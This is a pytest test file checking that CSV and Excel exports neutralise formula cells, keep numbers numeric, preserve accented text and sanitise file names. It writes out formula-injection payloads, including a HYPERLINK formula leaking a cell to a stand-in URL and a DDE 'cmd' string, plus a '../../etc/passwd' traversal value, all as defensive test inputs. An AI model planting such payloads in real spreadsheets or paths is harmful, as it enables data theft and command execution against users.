"""Downloads: formula cells made inert in CSV and XLSX, numbers kept numeric, non-ASCII intact."""

import csv
import io
from datetime import date

import pandas as pd
import pytest

from metrics.exports import csv_bytes, excel_bytes, neutralise

openpyxl = pytest.importorskip("openpyxl", reason="openpyxl reads the XLSX back (requirements-dev)")

HOSTILE = [
    '=HYPERLINK("http://x?"&A1)',
    "+cmd|' /c calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # leading spaces are skipped by spreadsheets
    '"=1+1"',  # so is a leading quote
    "{=1+1}",  # XlsxWriter would write this as an array formula through write()
]


@pytest.mark.parametrize(
    "text, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("   =1", "'   =1"),
        ("CRM", "CRM"),
        ("Salesforce.com, Inc.", "Salesforce.com, Inc."),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_neutralise(text, expected):
    assert neutralise(text) == expected


def _frame():
    return pd.DataFrame(
        {
            "date": [date(2026, 1, 5)] * len(HOSTILE) + [date(2026, 2, 1)],
            "vendor": HOSTILE + ["Société Générale Ünïcode"],
            "amount": [-1500.0] * len(HOSTILE) + [1234.56],
            "lines": [1] * len(HOSTILE) + [2],
            "=header": ["x"] * (len(HOSTILE) + 1),
        }
    )


def test_csv_neutralises_formulas_and_keeps_numbers():
    data = csv_bytes(_frame())
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel then reads the accents right
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    assert header == ["date", "vendor", "amount", "lines", "'=header"]
    for row, original in zip(body, HOSTILE):
        assert row[1] == (original if original == "{=1+1}" else "'" + original)
        assert row[2] == "-1500.0"  # a number, not the inert text "'-1500.0"
        assert row[0] == "2026-01-05"
    assert body[-1][1] == "Société Générale Ünïcode"
    assert body[-1][2] == "1234.56"


def test_csv_round_trips_quotes_commas_and_newlines():
    frame = pd.DataFrame({"description": ['He said "hi", then\nleft; ok'], "amount": [1.0]})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert rows[1] == ['He said "hi", then\nleft; ok', "1.0"]


def test_excel_cells_are_text_not_formulas_and_numbers_stay_numbers():
    book = openpyxl.load_workbook(io.BytesIO(excel_bytes(_frame())))
    sheet = book.active
    assert [c.value for c in sheet[1]] == ["date", "vendor", "amount", "lines", "'=header"]
    for r, original in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=r, column=2)
        assert cell.data_type == "s", original  # a string cell: Excel does not evaluate it
        if original != "{=1+1}":
            # openpyxl leaves XlsxWriter's escape of a carriage return (_x000D_) as it is.
            assert cell.value.replace("_x000D_", "\r") == "'" + original
        amount = sheet.cell(row=r, column=3)
        assert amount.data_type == "n" and amount.value == -1500
    # "{=1+1}" is not a formula trigger, but it must still be plain text, not an array formula.
    brace = sheet.cell(row=len(HOSTILE) + 1, column=2)
    assert brace.value == "{=1+1}" and brace.data_type == "s"
    last = len(HOSTILE) + 2
    assert sheet.cell(row=last, column=2).value == "Société Générale Ünïcode"
    assert sheet.cell(row=last, column=3).value == pytest.approx(1234.56)
    assert sheet.cell(row=last, column=4).value == 2
    assert sheet.cell(row=last, column=1).value.date() == date(2026, 2, 1)
    # No formula anywhere in the workbook.
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_excel_blank_cells_for_missing_values():
    frame = pd.DataFrame({"category": ["CRM", None], "budget": [100.0, float("nan")]})
    sheet = openpyxl.load_workbook(io.BytesIO(excel_bytes(frame))).active
    assert sheet.cell(row=3, column=1).value is None
    assert sheet.cell(row=3, column=2).value is None


def test_file_name_keeps_only_safe_characters():
    from metrics.exports import file_name

    assert (
        file_name("bridgeboard", "FY2026 Q3", "Marketing", "../../etc/passwd", ext="csv")
        == "bridgeboard_FY2026-Q3_Marketing_etc-passwd.csv"
    )
    assert file_name("spend", "Salesforce.com, Inc.", ext="xlsx") == "spend_Salesforce-com-Inc.xlsx"
